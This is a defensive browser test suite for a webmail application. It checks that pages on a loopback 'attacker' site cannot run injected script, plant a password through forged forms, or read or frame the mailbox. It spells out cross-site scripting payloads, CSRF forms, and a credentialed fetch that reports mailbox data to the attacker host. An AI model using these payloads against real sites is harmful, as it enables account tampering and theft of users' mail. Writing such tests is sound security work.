// A logged-in victim visits pages of another site (another loopback port)
// that send the browser to crafted addresses of the webmail: markup in
// request fields and in a refused field name, a password planted by a link
// or a foreign form, and a script that tries to read the mailbox.  Nothing
// may run (no request reaches the other site's /hit), nothing may change
// (the stored profile), nothing may be read.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { env, launch, noServers } from './lib.mjs';

// The other site: "/page" serves the HTML registered for it, "/hit" records
// that a script ran somewhere.
function otherSite() {
    const hits = [];
    let html = '';
    const server = http.createServer((req, res) => {
        if (req.url.startsWith('/hit')) {
            hits.push(req.url);
            res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
            res.end();
            return;
        }
        res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
        res.end(html);
    });
    return new Promise((resolve) => {
        server.listen(0, '127.0.0.1', () => {
            const base = `http://127.0.0.1:${server.address().port}`;
            resolve({
                base, hits, server,
                serve(text) { html = text; return `${base}/page?${hits.length}-${Date.now()}`; },
            });
        });
    });
}

const esc = (s) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

function profileOf(user) {
    const found = [];
    const walk = (d) => {
        for (const e of fs.readdirSync(d, { withFileTypes: true })) {
            const p = path.join(d, e.name);
            if (e.isDirectory()) walk(p);
            else if (e.name === 'user.dat' && p.includes(`${user}@`)) found.push(p);
        }
    };
    walk(env.LK_WORKAREA);
    assert.equal(found.length, 1, `one profile for ${user}: ${found}`);
    // The stored POP password of slot 0 (hidden) and the session code.
    const text = fs.readFileSync(found[0], 'utf8');
    return (/\npophost 0 [^\t]*\t[^\t]*\t([^\t]*)\t/.exec(text) || [])[1];
}

describe('another site against a logged-in victim', { skip: noServers }, () => {
    let site;
    let b;
    before(async () => {
        site = await otherSite();
        b = await launch();
        await b.page.goto(`${env.LK_WEB_URL}?cmd=flogin`);
        await b.page.getByLabel('User name').fill(env.LK_USER1);
        await b.page.getByLabel('Password', { exact: true }).fill(env.LK_PASS1);
        await Promise.all([b.page.waitForNavigation(), b.page.keyboard.press('Enter')]);
        const cookies = await b.context.cookies();
        assert.ok(cookies.some((c) => c.name === 'utok'), 'logged in');
    });
    after(async () => {
        await b?.close();
        site?.server.close();
    });

    // Opens the other site's page and waits for wherever it leads.
    async function visit(html) {
        await b.page.goto(site.serve(html));
        await b.page.waitForLoadState('load');
        await b.page.waitForTimeout(400);
    }
    const go = (target) => `<script>location.href = ${JSON.stringify(target)};</script>`;

    test('markup in set_ fields and u_ pairs runs nothing', async () => {
        const run = (tag) => `<img src=x onerror="fetch('${site.base}/hit?${tag}')">`;
        const attr = (tag) => `x" onfocus="fetch('${site.base}/hit?${tag}')" autofocus x="`;
        const targets = [
            `?set_pre_error=${encodeURIComponent(run('pre_error'))}`,
            `?cmd=flogin&set_info_msg=${encodeURIComponent(run('info'))}&set_error=${encodeURIComponent(run('error'))}`,
            `?set_charset=${encodeURIComponent(`"><script>fetch('${site.base}/hit?charset')</script>`)}`,
            `?cmd=flogin&u_x=${encodeURIComponent(run('u_pair'))}&page=list&set_u_x=1`,
            `?cmd=list&set_navtarget=${encodeURIComponent(attr('navtarget'))}`,
            `?cmd=list&set_b_action=${encodeURIComponent(`javascript:fetch('${site.base}/hit?action')`)}`,
        ];
        for (const t of targets) await visit(go(env.LK_WEB_URL + t));
        // The list page's links are clicked too: a script address would run now.
        await visit(go(`${env.LK_WEB_URL}?cmd=list&set_b_action=${encodeURIComponent('javascript:fetch(\'' + site.base + '/hit?click\')')}`));
        const link = b.page.locator('a').first();
        if (await link.count()) await link.click({ timeout: 2000 }).catch(() => {});
        await b.page.waitForTimeout(300);
        assert.deepEqual(site.hits, []);
        assert.deepEqual(b.events.dialogs, []);
    });

    test('a refused field name posted by a foreign form runs nothing', async () => {
        let fields = '';
        for (let i = 0; i < 505; i++) fields += `<input name="set_v${i}" value="1">`;
        fields += `<input name="${esc(`set_<img src=x onerror="fetch('${site.base}/hit?fieldname')">`)}" value="1">`;
        await visit(`<form id=f method=post action="${esc(env.LK_WEB_URL)}">${fields}</form>`
            + '<script>document.getElementById("f").submit();</script>');
        assert.match(await b.page.content(), /Too many var_sets/);
        assert.deepEqual(site.hits, []);
    });

    test('a link or a foreign form does not plant a password', async () => {
        const stored = profileOf(env.LK_USER1);
        assert.ok(stored);
        await visit(go(`${env.LK_WEB_URL}?cmd=list&newpass=Csrf4567`));
        await visit(`<form id=f method=post action="${esc(env.LK_WEB_URL)}">`
            + '<input name=cmd value=list><input name=newpass value=Csrf4567></form>'
            + '<script>document.getElementById("f").submit();</script>');
        assert.equal(profileOf(env.LK_USER1), stored);
    });

    test('a script of the other site cannot read the mailbox', async () => {
        await visit(`<script>
            fetch(${JSON.stringify(env.LK_WEB_URL + '?cmd=list')}, { credentials: 'include' })
                .then((r) => r.text())
                .then((t) => fetch('${site.base}/hit?read=' + t.length))
                .catch(() => fetch('${site.base}/hit-blocked'));
            </script>`);
        await b.page.waitForTimeout(800);
        assert.deepEqual(site.hits.filter((h) => h.startsWith('/hit?')), []);
        // Nor can it frame the webmail to read or click through it.
        await visit(`<iframe id=w src="${esc(env.LK_WEB_URL + '?cmd=list')}"></iframe>`);
        const framed = b.page.frames().find((f) => f.url().startsWith(env.LK_WEB_URL));
        const text = framed ? await framed.content().catch(() => '') : '';
        assert.doesNotMatch(text, /Inbox|New Mail/);
    });
});
